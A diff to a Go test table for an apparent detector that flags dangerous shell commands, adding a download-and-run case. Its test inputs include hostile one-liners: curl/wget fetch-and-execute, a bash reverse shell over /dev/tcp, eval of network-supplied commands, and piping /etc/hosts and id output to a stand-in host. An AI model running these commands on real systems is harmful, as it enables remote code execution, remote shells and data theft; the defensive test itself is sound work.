@@ -30,6 +30,7 @@ func TestJudge(t *testing.T) {
 		{name: "saved and run", text: "wget " + url + " -O /tmp/x; chmod +x /tmp/x; /tmp/x", want: "shell chmod"},
 		{name: "saved and interpreted", text: "curl -o x.py " + url + "\npython3 x.py\n", want: "shell python3"},
 		{name: "reverse shell", text: "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", want: "shell /dev/tcp/192.0.2.1/4444"},
+		{name: "download run, by both outputs", text: "curl -s http://192.0.2.1/x >& x.sh; sh x.sh", want: "shell sh"},
 		{name: "network as a source of commands", text: "eval \"$(</dev/tcp/192.0.2.1/4444)\"", want: "shell /dev/tcp/192.0.2.1/4444"},
 		{name: "output sent", text: "echo $(cat /etc/hosts) > /dev/tcp/192.0.2.1/4444", want: "shell /dev/tcp/192.0.2.1/4444"},
 		{name: "group sent", text: "(echo -n; id) > /dev/tcp/192.0.2.1/4444", want: "shell /dev/tcp/192.0.2.1/4444"},
